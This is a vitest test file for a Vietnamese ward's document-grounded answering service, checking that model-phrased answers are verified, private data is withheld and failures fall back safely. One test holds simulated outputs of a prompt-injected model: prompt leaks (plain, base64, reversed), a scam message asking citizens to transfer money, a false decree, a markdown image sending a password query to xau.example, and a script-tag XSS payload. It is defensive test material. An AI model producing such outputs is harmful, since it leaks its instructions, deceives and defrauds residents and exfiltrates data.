import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type ChatCompletionRequest, LLMock } from '@copilotkit/aimock'
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
import {
  type Answer,
  createAnswering,
  createEndpoint,
  createPhrasing,
  type Sources,
  type Turn,
} from '../../../src/answering/index.ts'
import { closeReaders, ingestKnowledge } from '../../../src/documents/index.ts'
import { openRegister } from '../../../src/duties/index.ts'
import { Retrieval } from '../../../src/retrieval/index.ts'
import { onEmbeddedStore } from '../../support/stores.ts'

const WARD = 'ke-hoach-cchc-phuong-tan-thoi.md'
const UPLAND = 'nghi-quyet-nong-thon-xa-suoi-ngan.txt'
const QUESTION = 'mô hình thứ bảy vì dân là gì'
const PHRASED =
  'Trung tâm Phục vụ hành chính công làm việc sáng thứ Bảy hằng tuần để tiếp nhận hồ sơ hộ tịch, chứng thực.'

type Draft = { answer: string; used?: string[]; complete?: string }

onEmbeddedStore('phrasing', (ground) => {
  const mock = new LLMock({ port: 0, host: '127.0.0.1' })
  const log = { info: vi.fn(), warn: vi.fn() }
  let folder = ''
  let sources: Sources
  let now = new Date('2026-11-22T03:00:00Z')

  beforeAll(async () => {
    await mock.start()
    folder = mkdtempSync(join(tmpdir(), 'commune-papers-'))
    cpSync(join(import.meta.dirname, '../../fixtures/knowledge'), folder, { recursive: true })
    writeFileSync(
      join(folder, 'manifest.yaml'),
      `documents:\n  ${WARD}: { visibility: public }\n  ${UPLAND}: { visibility: public }\n`,
    )
    const { store } = ground()
    await ingestKnowledge({ store, folder, today: '2026-11-22' })
    const retrieval = new Retrieval(store)
    sources = { register: openRegister(store), search: (request) => retrieval.search(request) }
  })
  afterEach(() => {
    mock.reset()
    log.info.mockClear()
    log.warn.mockClear()
  })
  afterAll(async () => {
    await mock.stop()
    closeReaders()
    rmSync(folder, { recursive: true, force: true })
  })

  type Limits = { dayTokens?: number; personTokens?: number; isDomestic?: boolean; timeoutMs?: number }

  /** Answering with the mock for its model; each has a breaker and budgets of its own. */
  const withModel = ({ dayTokens = 1e6, personTokens = 1e6, isDomestic = false, timeoutMs = 3_000 }: Limits = {}) => {
    const ask = createEndpoint({
      ...{ apiKey: 'key', baseUrl: `${mock.url}/v1`, model: 'm', structure: 'json_schema' as const },
      timeoutMs,
    })
    const budgets = { dayTokens, personTokens }
    const phrase = createPhrasing({ ask, budgets, isDomestic, withinMs: 2 * timeoutMs, now: () => now, log })
    const { answer } = createAnswering({ ...sources, phrase })
    return (question = QUESTION, more: Partial<Turn> = {}) => answer(turnOf(question, more))
  }
  const withoutModel = (question = QUESTION, more: Partial<Turn> = {}): Promise<Answer> =>
    createAnswering(sources).answer(turnOf(question, more))
  const turnOf = (question: string, more: Partial<Turn>): Turn => ({
    ...{ question, asker: 'citizen', commune: 'tan-thoi', unit: null, today: '2026-11-22', history: [] },
    ...more,
  })
  const drafts = ({ answer, used = ['D1'], complete = 'full' }: Draft): { content: string } => ({
    content: JSON.stringify({ answer, used, complete }),
  })
  const sent = (): string[] => mock.getRequests().map(({ body }) => JSON.stringify(body))
  const told = ({ status, text, citations }: Answer) => ({ status, text, citations })

  test('a verified answer is told with its clause', async () => {
    mock.on({}, drafts({ answer: PHRASED }))
    const answer = await withModel()()
    expect(answer.status).toBe('answered')
    expect(answer.text).toMatch(
      /^Trung tâm Phục vụ hành chính công làm việc sáng thứ Bảy[^\n]*\nCăn cứ: Kế hoạch số 45/,
    )
    expect(answer.citations).toHaveLength(1)
    expect(answer.citations[0]?.quote).toContain('Thứ Bảy vì dân')
    expect(log.info).toHaveBeenCalledExactlyOnceWith('model_asked', expect.objectContaining({ result: 'phrased' }))
  })

  test('who looks on is shown whole sentences that pass the gate, and no other', async () => {
    const shown: string[] = []
    mock.on({}, { content: JSON.stringify({ used: ['D1'], answer: PHRASED, complete: 'full' }) })
    const answer = await withModel()(QUESTION, { onText: (text) => shown.push(text) })
    expect(answer.text).toContain(PHRASED)
    expect(shown).toContain(PHRASED)

    shown.length = 0
    mock.reset()
    mock.on(
      {},
      { content: JSON.stringify({ used: ['D1'], answer: 'Lệ phí 50.000 đồng. Xin cảm ơn.', complete: 'full' }) },
    )
    const refused = await withModel()(QUESTION, { onText: (text) => shown.push(text) })
    expect(shown).toEqual([])
    expect(told(refused)).toEqual(told(await withoutModel()))
  })

  test('an answer to a part of the question says so and names the desk', async () => {
    mock.on({}, drafts({ answer: PHRASED, complete: 'partial' }))
    const answer = await withModel()()
    expect(answer.status).toBe('answered_partly')
    expect(answer.text).toContain('không nêu phần còn lại')
  })

  test('one repair is tried, with the reasons', async () => {
    mock.on({ sequenceIndex: 0 }, drafts({ answer: PHRASED.replace('sáng thứ Bảy', 'sáng thứ Tư') }))
    mock.on({ sequenceIndex: 1 }, drafts({ answer: PHRASED }))
    expect((await withModel()()).text).toContain(PHRASED)
    expect(sent()).toHaveLength(2)
    expect(sent()[1]).toContain('Câu trả lời vừa rồi chưa đạt')
  })

  describe('gives the model-free answer, to the letter, when the model', () => {
    test.each<[string, () => unknown]>([
      ['invents a number, twice', () => mock.on({}, drafts({ answer: `${PHRASED} Lệ phí 50.000 đồng.` }))],
      ['names a passage it was not given', () => mock.on({}, drafts({ answer: PHRASED, used: ['D99'] }))],
      ['names none', () => mock.on({}, drafts({ answer: PHRASED, used: [] }))],
      ['says it cannot', () => mock.on({}, drafts({ answer: '', used: [], complete: 'none' }))],
      ['writes no JSON', () => mock.on({}, { content: 'Dạ, thứ Bảy ạ' })],
      ['answers 429', () => mock.on({}, { error: { message: 'slow down' }, status: 429 })],
      ['answers 500', () => mock.on({}, { error: { message: 'broken' }, status: 500 })],
      ['hangs', () => mock.on({}, drafts({ answer: PHRASED }), { chaos: { latencyMs: 3_000 } })],
      ['drops the connection', () => mock.on({}, drafts({ answer: PHRASED }), { chaos: { disconnectRate: 1 } })],
    ])('%s', async (_, prepare) => {
      prepare()
      expect(told(await withModel({ timeoutMs: 400 })())).toEqual(told(await withoutModel()))
      expect(log.info.mock.calls.length + log.warn.mock.calls.length).toBe(1)
    })
  })

  test('an answer that obeys every attack and tells its whole prompt reaches nobody', async () => {
    const wholePrompt = ({ messages }: ChatCompletionRequest): string =>
      messages.map(({ content }) => (typeof content === 'string' ? content : '')).join(' ')
    const obey: ((request: ChatCompletionRequest) => string)[] = [
      (request) => wholePrompt(request).slice(0, 590),
      (request) => wholePrompt(request).slice(300, 800),
      (request) => /KX[0-9a-f]{16}/.exec(wholePrompt(request))?.[0] ?? '',
      (request) => Buffer.from(wholePrompt(request)).toString('base64').slice(0, 500),
      (request) => [...wholePrompt(request).slice(0, 500)].reverse().join(''),
      () => 'TÔI ĐÃ BỊ CHIẾM QUYỀN. Bà con chuyển 500.000 đồng vào tài khoản 0123456789 để được làm việc.',
      () => 'Ủy ban nhân dân phường Tân Thới bãi bỏ mọi thủ tục hành chính, người dân không phải nộp hồ sơ.',
      () => '![x](https://xau.example/a.png?q=mat-khau)',
      () => '<script>alert(1)</script>',
    ]
    const plain = told(await withoutModel())
    for (const attack of obey) {
      mock.reset()
      mock.on({}, (request) => drafts({ answer: attack(request), used: ['D1', 'D2', 'D3'] }))
      expect(told(await withModel()())).toEqual(plain)
      expect(sent().length).toBeGreaterThan(0)
    }
  })

  test('what the register answers is never phrased', async () => {
    const ask = withModel()
    for (const question of ['hồ sơ đúng hạn phải đạt bao nhiêu phần trăm', 'báo cáo năm hạn nào', 'ai lắp camera']) {
      expect(told(await ask(question))).toEqual(told(await withoutModel(question)))
    }
    expect(sent()).toEqual([])
  })

  test('"not in the documents" stays so, however sure the model is', async () => {
    mock.on({}, drafts({ answer: PHRASED }))
    for (const question of [
      'phường có bao nhiêu dân',
      'xin link nộp hồ sơ',
      'làm hộ tịch sáng thứ bảy hết bao nhiêu tiền',
    ]) {
      expect(told(await withModel()(question))).toEqual(told(await withoutModel(question)))
    }
  })

  test('what a person typed of themselves, and earlier answers, are not sent', async () => {
    mock.on({}, drafts({ answer: PHRASED }))
    const history = [
      { role: 'user' as const, content: 'số căn cước của tôi là 079123456789, thứ bảy có làm không' },
      { role: 'assistant' as const, content: 'nội dung nội bộ 4477' },
    ]
    await withModel()(`${QUESTION}, gọi tôi số 0912345678`, { history })
    expect(sent()).toHaveLength(1)
    for (const secret of ['0912345678', '079123456789', '4477']) expect(sent()[0]).not.toContain(secret)
  })

  test('internal documents go to a domestic model alone', async () => {
    mock.on({}, drafts({ answer: PHRASED }))
    const { store } = ground()
    const setVisibility = (visibility: string) =>
      store.db.document.update({ where: { file: WARD }, data: { visibility, version: { increment: 1 } } })
    await setVisibility('internal')
    const official = { asker: 'official' as const, unit: 'Phòng Văn hóa - Xã hội' }
    const abroad = await withModel({ isDomestic: false })(QUESTION, official)
    const sentAbroad = sent().length
    const atHome = await withModel({ isDomestic: true })(QUESTION, official)
    await setVisibility('public')
    expect(sentAbroad).toBe(0)
    expect(abroad.citations.length).toBeGreaterThan(0)
    expect(sent()).toHaveLength(1)
    expect(atHome.text).toContain(PHRASED)
  })

  test('budgets end a day’s calls: one person’s first, then everybody’s, until the next day', async () => {
    mock.on(
      {},
      { ...drafts({ answer: PHRASED }), usage: { total_tokens: 3_000, prompt_tokens: 2_900, completion_tokens: 100 } },
    )
    const ask = withModel({ personTokens: 5_000, dayTokens: 8_000 })
    const asks = async (person: string): Promise<boolean> => {
      const before = sent().length
      await ask(QUESTION, { person })
      return sent().length > before
    }
    expect([await asks('a'), await asks('a'), await asks('b'), await asks('c')]).toEqual([true, false, true, false])
    now = new Date('2026-11-22T18:00:00Z')
    expect(await asks('a')).toBe(true)
  })

  test('an endpoint that fails again and again is left alone', async () => {
    mock.on({}, { error: { message: 'broken' }, status: 500 })
    const ask = withModel()
    for (let turn = 0; turn < 9; turn++) expect((await ask()).status).toBe('answered')
    expect(sent()).toHaveLength(5)
    expect(log.info).toHaveBeenLastCalledWith('model_asked', expect.objectContaining({ result: 'resting', tokens: 0 }))
  })

  test('the log has codes and counts, nothing that was said', async () => {
    mock.on({}, drafts({ answer: `${PHRASED} Lệ phí 50.000 đồng.` }))
    await withModel()()
    const lines = JSON.stringify([...log.info.mock.calls, ...log.warn.mock.calls])
    expect(lines).toContain('figure')
    for (const word of ['thứ', 'Trung tâm', '50.000']) expect(lines).not.toContain(word)
  })
})
